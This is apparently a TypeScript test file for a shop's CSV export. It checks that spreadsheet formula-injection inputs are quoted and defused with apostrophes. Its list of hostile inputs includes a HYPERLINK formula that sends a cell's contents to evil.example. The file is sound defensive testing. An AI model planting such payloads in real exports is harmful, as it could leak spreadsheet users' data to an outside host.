import { csvCell, csvRecords, defuseFormulas } from './spreadsheet-csv';

/**
 * How a spreadsheet program reads a CSV file with a given separator: a cell that starts with a
 * quote runs to the closing quote ("" inside is one quote), whatever follows up to the separator
 * is added as it stands; a cell that does not start with a quote is taken literally, quotes and
 * all. Line breaks outside quotes end a row. Dutch, French and German Excel read ';'.
 */
function spreadsheetCells(csv: string, separator: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let cellStart = true;
  const endCell = () => {
    row.push(cell);
    cell = '';
    cellStart = true;
  };
  while (i < csv.length) {
    const c = csv[i];
    if (cellStart && c === '"') {
      cellStart = false;
      i++;
      while (i < csv.length) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else cell += csv[i++];
      }
      continue;
    }
    cellStart = false;
    if (c === separator) {
      endCell();
      i++;
    } else if (c === '\r' || c === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i += c === '\r' && csv[i + 1] === '\n' ? 2 : 1;
    } else {
      cell += c;
      i++;
    }
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet runs: a cell starting with = + - @ TAB or CR (and their full-width forms). */
const startsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

const HOSTILE = [
  '=1+1',
  '+32 470 12 34 56',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  'Jan;=1+1;',
  'Jan,=1+1',
  'Jan; =1+1',
  'Jan;"=1+1"',
  'Jan;;@x;-y,+z',
  'a\n=1+1',
  'a\r\n@x',
  'x;\t=1',
  'x;\r=1',
  '=HYPERLINK("https://evil.example/?"&A1;"click")',
  'Jan;\uFF1D1+1',
  '\uFF20SUM(A1:A9)',
  '"=1+1"',
];

describe('the shop\'s CSV writer', () => {
  const csv = csvRecords([['name', 'company', 'units'], ...HOSTILE.map((text) => [text, `ACME;${text}`, 2])]);

  it.each([',', ';'] as const)('leaves no cell a spreadsheet reading %j as separator would run as a formula', (separator) => {
    const cells = spreadsheetCells(csv, separator).flat();
    expect(cells.length).toBeGreaterThan(HOSTILE.length);
    expect(cells.filter(startsFormula)).toEqual([]);
    // Nor after the spaces some programs trim.
    expect(cells.map((cell) => cell.trimStart()).filter(startsFormula)).toEqual([]);
  });

  it('keeps every text readable: read with ",", each cell is the text with apostrophes added, nothing else', () => {
    const rows = spreadsheetCells(csv, ',');
    expect(rows).toHaveLength(HOSTILE.length + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row).toHaveLength(3);
      expect(row[0].replace(/'/g, '')).toBe(HOSTILE[i].replace(/'/g, ''));
      expect(row[1].replace(/'/g, '')).toBe(`ACME;${HOSTILE[i]}`.replace(/'/g, ''));
      expect(row[2]).toBe('2');
    });
  });

  it('quotes every cell that holds a separator of either kind, a tab, a line break or a quote', () => {
    expect(csvCell('Anne, Marie')).toBe('"Anne, Marie"');
    expect(csvCell('Anne; Marie')).toBe('"Anne; Marie"');
    expect(csvCell('Anne\tMarie')).toBe('"Anne\tMarie"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('line\rbreak')).toBe('"line\rbreak"');
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell(null)).toBe('');
    expect(csvCell(12.5)).toBe('12.5');
  });

  it('puts an apostrophe at the start and after every separator that a formula follows', () => {
    expect(defuseFormulas('Jan;=1+1;')).toBe("Jan;'=1+1;");
    expect(defuseFormulas('Jan; -1,@x')).toBe("Jan;' -1,'@x");
    expect(defuseFormulas('@sum')).toBe("'@sum");
    expect(defuseFormulas('a\n+1')).toBe("a\n'+1");
    expect(defuseFormulas('Ardenne-Cycles; e-bikes, 2026')).toBe('Ardenne-Cycles; e-bikes, 2026');
  });

  it('ends every record with CRLF, as spreadsheet programs on Windows expect', () => {
    expect(csvRecords([['a', 1], ['b', null]])).toBe('a,1\r\nb,\r\n');
  });
});
